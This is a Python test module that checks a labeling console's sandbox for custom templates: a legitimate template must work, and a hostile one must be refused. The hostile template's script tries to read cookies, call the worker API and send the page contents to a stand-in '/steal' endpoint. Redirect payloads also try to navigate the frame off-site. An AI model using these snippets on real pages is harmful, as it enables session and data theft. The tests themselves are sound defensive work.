"""Custom templates in the console (docs/templates.md "The sandbox"): the template runs in a
sandboxed, opaque-origin frame under a strict Content-Security-Policy. A hostile template's
script cannot read the console's cookies, call the worker API or load anything from outside;
a legitimate one answers, and the answer reaches the worker's assignment.

The image is a ``file://`` object of the requester's storage, shown through the signed link the
worker API gives (the task's own signed object URL, the one address the frame may load).
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from labeling.services.storage_registration import storage_register

from .conftest import ConsoleServer, screenshot, sign_in
from .drawing_harness import sample_image
from .test_console_drawing import answer_of
from .test_console_working import start_working, wait_for_task

pytestmark = pytest.mark.django_db(transaction=True)

LEGITIMATE = """<h2>Is this a street scene?</h2>
<gw-classifier src="{{ task.input.source-url }}" labels="{{ task.labels | to_json }}"></gw-classifier>
<form>
  <label for="note">Anything odd about it? <small>(shown as: {{ task.input.caption }})</small></label>
  <textarea id="note" name="note" rows="2"></textarea>
  <button type="submit">Send answer</button>
</form>"""


def hostile_template(outside_url: str) -> str:
    return f"""<h2>Please label</h2>
<p>cookie: <output id="cookie">not run</output></p>
<p>worker API: <output id="api">not run</output></p>
<p>console page: <output id="parent">not run</output></p>
<img id="outside" alt="outside" src="{outside_url}/pixel.png">
<script>
  const show = (id, text) => {{ document.getElementById(id).textContent = text; }};
  try {{ show("cookie", "read: " + document.cookie); }} catch (error) {{ show("cookie", "refused: " + error.name); }}
  try {{ show("parent", "read: " + window.parent.document.cookie); }}
  catch (error) {{ show("parent", "refused: " + error.name); }}
  fetch("/api/v1/worker/me", {{ credentials: "include" }}).then(
    (response) => response.text().then((text) => show("api", "answered: " + text)),
    (error) => show("api", "refused: " + error.name));
  fetch("{outside_url}/steal?" + encodeURIComponent(document.body.innerHTML), {{ mode: "no-cors" }}).catch(() => {{}});
</script>
<form><textarea name="note">I tried</textarea><button>Send</button></form>"""


class Outside:
    """An HTTP server playing someone else's site: it records every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        outside = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outside.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def outside() -> Iterator[Outside]:
    site = Outside()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def template_world(transactional_db, storage_root, make_requester):
    """A console server reading ``storage_root`` and ``start_job(template)``: a custom job of
    one image, ``file://frames/street.png``, shown through ``template``."""
    (storage_root / "frames").mkdir()
    (storage_root / "frames" / "street.png").write_bytes(sample_image(900, 600))
    (storage_root / "frames" / "manifest.jsonl").write_text(
        '{"source-ref": "file://frames/street.png", "caption": "<b>a street</b>"}\n'
    )
    requester = make_requester()
    storage_register(organization=requester.organization, uri_prefix="file://frames/")
    server = ConsoleServer(extra_env={"GROUNDWORK_STORAGE_ROOT": str(storage_root)}).start()

    def start_job(name: str, template: str) -> int:
        body = {
            "name": name,
            "label_attribute_name": "scene",
            "task_type": "custom",
            "label_categories": ["street", "not a street"],
            "template": template,
            "worker_visible_keys": ["caption"],
            "title": f"Template {name}",
            "reward": "0.05",
            "workers_per_object": 1,
            "input_manifest_uri": "file://frames/manifest.jsonl",
            "output_uri": "file://frames/out/",
        }
        return server.start_labeling_job(requester.api_key, body)["batch_id"]

    server.start_job = start_job
    server.requester = requester
    yield server
    server.stop()


@pytest.fixture
def template_page(browser, template_world):
    context = template_world and browser.new_context(
        base_url=template_world.url, viewport={"width": 1100, "height": 1000}
    )
    context.set_default_timeout(15_000)
    page = context.new_page()
    page.frame_requests = []
    page.console_errors = []
    page.on("console", lambda message: page.console_errors.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: page.console_errors.append(str(error)))
    page.frame_failures = []
    page.frame_navigations = []  # a frame loaded again would show here (a failure's message says)
    page.on("framenavigated", lambda frame: page.frame_navigations.append(frame.url))
    # What the template's frame (a child frame) got answered, and what was refused it and why.
    page.on("requestfinished", lambda r: r.frame.parent_frame and page.frame_requests.append(r.url))
    page.frame_requested = []  # every request of a child frame, answered or not
    page.on("request", lambda r: r.frame.parent_frame and page.frame_requested.append(r.url))
    page.on("requestfailed", lambda r: r.frame.parent_frame and page.frame_failures.append((r.url, r.failure)))
    yield page
    context.close()


def open_frame(page):
    """The template's frame (inside the console's host page) once its helper has run and the
    console has sized it to its page."""
    page.wait_for_selector("gw-template-frame iframe")
    frame = page.frame_locator("gw-template-frame iframe").frame_locator("iframe")
    frame.locator("html[data-gw-template-ready=true]").wait_for()
    page.wait_for_selector("gw-template-frame iframe[data-sized=true]")
    return frame


def template_frame(page):
    """The template's own frame (its URL ends /frame)."""
    return next(frame for frame in page.frames if frame.url.split("?")[0].endswith("/frame"))


def test_a_template_answers_and_the_answer_reaches_the_assignment(template_world, template_page, console_worker):
    # given: the worker at work on a task of a job with a template
    page = template_page
    batch_id = template_world.start_job("legit", LEGITIMATE)
    sign_in(page, console_worker)
    start_working(page)
    wait_for_task(page, "Template legit")
    frame = open_frame(page)
    frame.locator("gw-classifier img").wait_for()
    assert frame.locator("gw-classifier img").evaluate("img => img.naturalWidth") == 900
    assert frame.locator("small").inner_text() == "(shown as: <b>a street</b>)"  # escaped: text, not markup

    # when: it picks a label and writes a note inside the template, and sends the template's form
    frame.get_by_role("button", name="street", exact=True).click()
    chosen = frame.locator(".gw-chosen")
    try:
        chosen.filter(has_text="Chosen: street").wait_for()
    except PlaywrightTimeoutError:
        raise AssertionError(f"not chosen: {chosen.inner_text()!r}; frame loads: {page.frame_navigations}") from None
    frame.locator("textarea[name=note]").fill("a bus stop")
    screenshot(page, "template-frame")
    frame.get_by_role("button", name="Send answer").click()

    # then: the answer (the element's keys and the form's field) is the assignment's
    assert answer_of(template_world, batch_id, page) == {"label": "street", "note": "a bus stop"}


def test_a_hostile_template_cannot_read_cookies_call_the_api_or_reach_outside(
    template_world, template_page, console_worker, outside
):
    # given: the console holds cookies, and a template whose script tries to use them
    page = template_page
    batch_id = template_world.start_job("hostile", hostile_template(outside.url))
    sign_in(page, console_worker)
    assert "csrftoken=" in page.evaluate("document.cookie")
    start_working(page)
    wait_for_task(page, "Template hostile")

    # when: the template's page runs
    frame = open_frame(page)
    frame.locator("#api:not(:text('not run'))").wait_for()
    screenshot(page, "template-hostile")

    # then: its script ran, in an opaque origin: no cookie, no console page, no API, no outside
    assert frame.locator("#cookie").inner_text() == "refused: SecurityError"
    assert frame.locator("#parent").inner_text() == "refused: SecurityError"
    assert frame.locator("#api").inner_text() == "refused: TypeError"
    assert frame.locator("#outside").evaluate("img => img.naturalWidth") == 0
    assert outside.paths == []
    assert page.frame_requests and not [url for url in page.frame_requests if "/api/" in url or outside.url in url]
    assert (f"{outside.url}/pixel.png", "csp") in page.frame_failures  # refused by the policy
    assert template_frame(page).evaluate("origin") == "null"

    # and its answer still goes only through the console, for this assignment
    frame.get_by_role("button", name="Send").click()
    assert answer_of(template_world, batch_id, page) == {"note": "I tried"}


NAVIGATIONS = {
    "script": '<script>location = "{url}/navigated?" + encodeURIComponent(document.body.innerText);</script>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}/refreshed">',
}


@pytest.fixture
def http_frames_allowed(template_world):
    """The console restarted with ``MTURK_EXTERNAL_URL_ALLOW_HTTP``: its pages then allow http
    frames as they do https ones, so a site on 127.0.0.1 stands for any https site."""
    template_world.env["MTURK_EXTERNAL_URL_ALLOW_HTTP"] = "true"
    template_world.restart()
    return template_world


@pytest.mark.parametrize("how", sorted(NAVIGATIONS))
def test_the_template_frame_cannot_navigate_itself_to_another_site(
    http_frames_allowed, template_page, console_worker, outside, how
):
    # given: the console's pages allow other sites' frames (for MTurk ExternalQuestions), and a
    # template that navigates its own frame to another site as soon as it loads
    page = template_page
    http_frames_allowed.start_job(how, f"<h2>Please label</h2>\n{NAVIGATIONS[how].format(url=outside.url)}")
    sign_in(page, console_worker)
    console_policy = page.evaluate("fetch('/console/work').then((r) => r.headers.get('content-security-policy'))")
    assert "frame-src 'self' https: http:" in console_policy

    # when: the worker is shown the task
    start_working(page)
    wait_for_task(page, f"Template {how}")
    page.wait_for_selector("gw-template-frame iframe")
    for _ in range(100):
        if any("frame-src" in message for message in page.console_errors):
            break
        page.wait_for_timeout(100)
    screenshot(page, f"template-navigation-{how}")

    # then: the host page's frame-src refused the navigation; the other site got nothing
    assert outside.paths == []
    assert any("frame-src" in message for message in page.console_errors), page.console_errors
    assert not [url for url in page.frame_requested if url.startswith(outside.url)]
